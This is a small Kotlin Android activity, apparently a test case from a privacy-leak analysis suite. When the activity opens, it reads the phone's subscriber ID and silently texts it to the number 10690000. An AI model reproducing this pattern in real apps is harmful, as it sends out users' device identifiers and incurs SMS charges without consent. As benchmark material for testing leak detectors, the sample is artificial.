package cn.privlens.suite.vetoed_never

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager
import kotlin.properties.Delegates

class Main : Activity() {
    private var id: String by Delegates.vetoable("none") { _, _, _ -> true }

    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        id = (getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager).subscriberId ?: ""
        SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null)
    }
}
